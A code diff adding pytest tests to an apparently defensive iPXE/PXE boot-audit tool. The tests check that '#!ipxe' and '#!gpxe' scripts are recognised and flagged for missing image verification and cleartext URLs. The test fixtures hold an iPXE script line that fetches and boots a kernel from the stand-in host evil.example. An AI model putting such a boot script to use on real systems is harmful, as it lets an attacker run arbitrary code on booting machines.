@@ -532,6 +532,31 @@ def test_identify_loaders() -> None:
     assert loaders.identify(b"DEFAULT linux\n").kind == "text"
 
 
+@pytest.mark.parametrize("magic", [b"#!ipxe\n", b"#!gpxe\n", b"#!gpxe \n", b"#!ipxe\r\n"])
+def test_what_ipxe_runs_as_a_script_is_checked_as_one(magic: bytes) -> None:
+    """iPXE's script_probe() also runs '#!gpxe' scripts: the audit's script checks see
+    them (before, '#!gpxe' was 'text' and nothing was checked)."""
+    from tests.audit.test_checks import fetched, observe, offer, rules
+
+    script = magic + b"kernel http://evil.example/vmlinuz\nboot\n"
+    info = loaders.identify(script)
+    assert (info.kind, info.ipxe, info.script, info.imgverify) == (
+        "ipxe-script", True, True, False)
+    found = rules(observe(offers=[offer(file="boot.ipxe")],
+                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]))
+    assert {"script-without-imgverify", "cleartext-boot-url"} <= set(found)
+
+
+@pytest.mark.parametrize("head", [b"#!gpxeX\n", b"#!GPXE\n", b"#!IPXE\n",
+                                  b"\xef\xbb\xbf#!ipxe\n", b"#!ipxe"])
+def test_what_ipxe_does_not_run_as_a_script_is_not_judged_as_one(head: bytes) -> None:
+    """iPXE compares the magic byte for byte at offset 0 and wants a space after it: a
+    BOM, another case or another 7th byte is not run as a script (a text file, or with
+    a BOM an unrecognised one)."""
+    info = loaders.identify(head + b"kernel http://evil.example/vmlinuz\nboot\n")
+    assert info.kind in ("text", "unknown") and not info.ipxe and info.imgverify is None
+
+
 def test_a_script_too_large_to_parse_is_said_to_be_so_in_bounded_time() -> None:
     """Half a million lines (3.5 MB, 12 s to parse): not parsed past the cap, its imgverify
     unknown and said so (a finding says it was not checked), its URLs still listed."""
